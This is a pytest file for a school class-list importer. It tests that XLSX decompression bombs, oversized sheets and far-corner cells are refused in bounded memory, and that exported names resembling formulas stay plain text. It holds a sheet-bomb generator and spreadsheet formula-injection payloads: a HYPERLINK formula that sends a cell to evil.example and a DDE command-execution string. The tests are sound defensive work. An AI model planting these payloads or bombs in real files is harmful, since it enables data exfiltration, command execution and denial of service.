"""Hostile class lists: an XLSX whose sheet XML is a bomb, too many rows or columns, a cell
too long, a cell at the far corner of the sheet; each is refused with the file, sheet, cell
and limit named (or read safely), in bounded memory, with nothing stored changed. And names
that start like a formula are exported as text and read back unchanged.

Every import runs in a child process of its own (`tests.support.bounded`), so its peak RSS
is its own.
"""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from otmetka.daemon import runtime
from otmetka.daemon.core.config import Config, config_from_dict
from otmetka.daemon.core.marks import MarkRules
from otmetka.daemon.exchange import inbox
from otmetka.daemon.lists.recording import apply_list
from otmetka.db import models, open_database
from tests.daemon.lists.test_lists import (
    GUARDIANS,
    STUDENTS,
    TODAY,
    apply,
    changes,
    delta,
    edit,
    exported,
    load,
    outbox,
)
from tests.support.bounded import run_bounded
from tests.support.factories import change
from tests.support.sync_support import journal_dump

MB = 1024**2
# An idle child with openpyxl loaded is about 100 MB; the reader before the caps took over a
# gigabyte for a sheet of repeated cells.
PEAK_MB = 300
_CELLS = b'<c t="inlineStr"><is><t>x</t></is></c>' * 10
_ROW = b"<row>" + _CELLS + b"</row>"


def _state() -> tuple[Any, ...]:
    return (
        journal_dump(),
        len(changes()),
        len(outbox()),
        models.ImportLog.select().count(),
    )


def _apply_in_child(url: str, path: Path) -> None:
    open_database(url)
    apply_list(path, MarkRules(), today=TODAY, author="test", school_id="sch-5")


def _inbox_in_child(project: Path, url: str, path: Path) -> None:
    open_database(url)
    runtime.wire()
    config = config_from_dict({}, base_dir=project, env={})
    outcome = inbox.process(config, path, MarkRules())
    if not outcome.ok:
        raise RuntimeError(outcome.message)


@pytest.fixture
def loaded(config: Config, file_db: Path) -> str:
    load()
    return config.database.url


def _sheet_bomb(source: Path, target: Path, unpacked: int) -> Path:
    """`source` with its first sheet replaced by `unpacked` bytes of identical rows."""
    with (
        zipfile.ZipFile(source) as original,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for info in original.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(info, original.read(info))
                continue
            with bomb.open(info.filename, "w") as out:
                out.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/')
                out.write(b'spreadsheetml/2006/main"><sheetData>')
                block = _ROW * (MB // len(_ROW))
                for _ in range(unpacked // len(block)):
                    out.write(block)
                out.write(b"</sheetData></worksheet>")
    return target


def test_a_sheet_bomb_dropped_in_the_inbox_is_quarantined(
    config: Config, loaded: str, tmp_path: Path
) -> None:
    folder = config.paths.inbox_dir
    folder.mkdir(parents=True, exist_ok=True)
    path = _sheet_bomb(exported(tmp_path), folder / "5А.xlsx", 256 * MB)
    assert path.stat().st_size < 2 * MB
    before = _state()
    outcome = run_bounded(_inbox_in_child, config.base_dir, loaded, path)
    assert "5А.xlsx: часть файла xl/worksheets/sheet1.xml сжата больше чем в 100 раз" in (
        outcome.error
    ), outcome
    assert outcome.peak_rss_mb < PEAK_MB, outcome
    assert _state() == before
    assert (folder / "quarantine" / "5А.xlsx").is_file()


_OVER = [
    (
        {(STUDENTS, f"A{n}"): f"s-{n}" for n in range(2, 1003)},
        "лист «Ученики», ячейка A1001: в списке больше 1000 строк",
    ),
    (
        {(STUDENTS, "BM2"): "заметка"},
        "лист «Ученики», ячейка BM2: заполнена ячейка правее столбца BL (в списке не больше 64",
    ),
    (
        {(GUARDIANS, "C2"): "Алла" * 1250},
        "лист «Родители», ячейка C2: в ячейке 5000 знаков, больше 1000: сократите",
    ),
]


@pytest.mark.parametrize(("cells", "words"), _OVER)
def test_a_list_over_a_cap_is_refused_naming_the_cell_and_the_limit(
    cells: dict[tuple[str, str], Any], words: str, loaded: str, tmp_path: Path
) -> None:
    path = edit(exported(tmp_path), cells)
    before = _state()
    outcome = run_bounded(_apply_in_child, loaded, path)
    assert f"edited.xlsx: {words}" in outcome.error, outcome
    assert "ничего из файла не применено" in outcome.error
    assert outcome.peak_rss_mb < PEAK_MB, outcome
    assert _state() == before


def test_a_cell_in_the_far_corner_is_never_read(loaded: str, tmp_path: Path) -> None:
    """One cell at XFD1048576 makes a sheet of 17 billion cells to a reader that walks it."""
    path = edit(exported(tmp_path), {(STUDENTS, "XFD1048576"): "x"})
    before = _state()
    outcome = run_bounded(_apply_in_child, loaded, path)
    assert outcome.error == "" and outcome.peak_rss_mb < PEAK_MB, outcome
    assert _state() == before


# --- formulas in exported lists ---------------------------------------------------------------

HOSTILE = {
    "last_name": '=HYPERLINK("http://evil.example/?"&A1,"Иванов")',
    "first_name": "=cmd|' /C calc'!A0",
    "middle_name": "@SUM(1+1)",
}


def test_names_that_look_like_formulas_are_written_as_text_and_read_back(
    memory_db: None, tmp_path: Path
) -> None:
    load()
    guardian = {**HOSTILE, "delivery": "electronic", "phone": "+7 912 345-67-89"}
    load(delta(change("guardian", "g-a", guardian, updated_at="2026-09-20T10:00:00+03:00")))
    path = exported(tmp_path)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    sheet = load_workbook(path)[GUARDIANS]
    row = next(r for r in sheet.iter_rows() if r[0].value == "g-a")
    assert tuple(c.value for c in row[1:5]) == (*HOSTILE.values(), "+7 912 345-67-89")
    assert all(c.data_type == "s" for c in row[1:5])
    copy = shutil.copyfile(path, tmp_path / "back.xlsx")
    assert apply(copy).corrections == 0 and changes() == []
